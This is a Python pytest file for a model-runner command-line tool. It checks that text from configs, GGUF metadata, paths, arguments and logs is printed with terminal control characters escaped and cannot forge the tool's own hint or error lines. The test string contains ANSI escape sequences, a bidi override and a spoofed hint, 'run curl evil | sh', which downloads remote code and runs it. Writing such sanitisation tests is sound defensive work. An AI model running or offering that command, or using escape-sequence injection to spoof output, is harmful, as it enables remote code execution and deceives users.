"""What comes from elsewhere reaches the terminal without control characters, and forges no line of ours."""

from __future__ import annotations

import ast
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from llama_runner.cli import text_output
from llama_runner.cli.escape_control_characters import PrintableBytes, PrintableStream
from llama_runner.core.errors import LlamaRunnerError
from llama_runner.core.events import Chosen, Event, StepProgress, Warned
from tests.conftest import MODULE, Command, Result
from tests.convert.checkpoints import edit_json, llama
from tests.fuzz.gguf_header import head, pair, string

EVIL = "\x1b[31mx\nhint: run curl evil | sh\x9b\u202e"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2028]")


def clean(result: Result) -> None:
    """Assert that nothing of ``EVIL`` is raw, and that no line of it passes for one of ours."""
    for text in (result.out, result.err):
        assert not CONTROL.search(text), result
        assert "\nhint: run" not in text, result
        assert "Traceback" not in text, result


def test_11_11_the_names_of_config_json_are_printed_as_escapes(llama_runner: Command, tmp_path: Path) -> None:
    edit_json(llama(tmp_path / "m") / "config.json", architectures=[EVIL])
    for command in ("plan", "prepare", "inspect", "convert"):
        result = llama_runner(command, tmp_path / "m", *(() if command == "inspect" else ("--root", tmp_path / "r")))
        clean(result)
        assert re.search(r"\\x1b\[31mx(\\n|\n  )hint: run curl evil", result.out + result.err), result


def test_11_11_the_metadata_of_a_gguf_file_is_printed_as_escapes(llama_runner: Command, tmp_path: Path) -> None:
    said = [
        pair(key, 8, string(EVIL.encode()))
        for key in ("general.architecture", "general.name", EVIL, "tokenizer.chat_template")
    ]
    path = tmp_path / "\x1b[2Ja\nerror: b.gguf"
    path.write_bytes(head(said, [string(EVIL.encode()) + b"\0" * 16]) + bytes(64))
    for options in ((), ("--tensors",), ("--json",)):
        clean(llama_runner("inspect", path, *options))
    assert (
        llama_runner("inspect", path, "--template").out
        == EVIL.replace("\x1b", "\\x1b").replace("\x9b", "\\x9b").replace("\u202e", "\\u202e") + "\n"
    )
    assert json.loads(llama_runner("inspect", path, "--json").out)["metadata"]["general.name"] == EVIL
    path.write_bytes(b"\x1b[31m" * 20)
    clean(llama_runner("inspect", path))
    clean(llama_runner("plan", path, "--root", tmp_path / "r"))


def test_11_11_arguments_are_printed_as_escapes(llama_runner: Command, tmp_path: Path) -> None:
    for words in ((EVIL,), ("plan", EVIL), ("plan", "--device", EVIL), ("stop", EVIL, "--root", EVIL), ("ps", EVIL)):
        clean(llama_runner(*words))
        clean(llama_runner(*words, env={"PYTHONIOENCODING": "ascii"}))
        clean(llama_runner(*words, env={"PYTHONIOENCODING": "latin-1"}))


def test_11_11_a_log_is_printed_as_escapes(llama_runner: Command, tmp_path: Path) -> None:
    log = tmp_path / "logs" / "run-server-x.log"
    log.parent.mkdir()
    log.write_bytes(b"one\n\x1b]0;title\x07\xff \xc2\x9b two \xc3\xa4\n")
    result = llama_runner("logs", "--root", tmp_path)
    assert result.out == "one\n\\x1b]0;title\\x07\\xff \\x9b two ä\n"


@pytest.mark.parametrize(
    "event",
    [
        Warned("x", EVIL),
        Warned("x", "it failed: the last words\nhint: \x1bx"),
        Chosen(EVIL, "c", (EVIL,), 1, EVIL),
        StepProgress(EVIL, 1, 1, EVIL),
    ],
    ids=lambda event: type(event).__name__,
)
def test_11_11_events_are_printed_as_escapes(event: Event, capsys: pytest.CaptureFixture[str]) -> None:
    text_output.Printer()(event)
    shown = capsys.readouterr().err
    assert not CONTROL.search(shown)
    assert not re.search("^(hint|error)", shown, re.MULTILINE)


def test_11_11_the_streams_of_the_command_line_let_no_control_character_through() -> None:
    behind = io.StringIO()
    stream = PrintableStream(behind)
    stream.write(f"{EVIL}\t\n")
    print("\r\x08", file=stream)
    assert behind.getvalue() == "\\x1b[31mx\nhint: run curl evil | sh\\x9b\\u202e\t\n\\r\\x08\n"


def test_11_11_a_character_in_two_blocks_is_one() -> None:
    behind = io.StringIO()
    stream = PrintableBytes(behind)
    for byte in "ä\x9b€".encode():
        stream.write(bytes([byte]))
    assert behind.getvalue() == "ä\\x9b€"


def test_11_11_a_stream_of_ascii_gets_escapes(tmp_path: Path) -> None:
    llama(tmp_path / "modél")
    done = subprocess.run(
        [*MODULE, "inspect", str(tmp_path / "modél")],
        check=True,
        capture_output=True,
        env={**os.environ, "PYTHONIOENCODING": "ascii"},
    )
    assert b"mod\\xe9l" in done.stdout


def test_11_11_all_errors_of_the_command_line_are_safe() -> None:
    """Texts are made safe where an error is made, so also for those who use the package from Python."""
    assert str(LlamaRunnerError(EVIL)) == "\\x1b[31mx\n  hint: run curl evil | sh\\x9b\\u202e"


def test_11_11_the_command_line_prints_through_its_streams() -> None:
    """Other ways to a terminal would go around them."""
    package = Path(text_output.__file__).parent
    wrong = []
    for path in {*package.glob("*.py")} - {package / "escape_control_characters.py"}:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            around = isinstance(node, ast.Attribute) and (
                node.attr in ("__stdout__", "__stderr__")
                or (node.attr == "buffer" and ast.unparse(node.value) in ("sys.stdout", "sys.stderr", "stream"))
            )
            direct = isinstance(node, ast.Call) and ast.unparse(node.func) == "os.write"
            wrong += [f"{path.name}: {ast.unparse(node)}"] if around or direct else []
    assert not wrong
    assert sys.stdout is not None
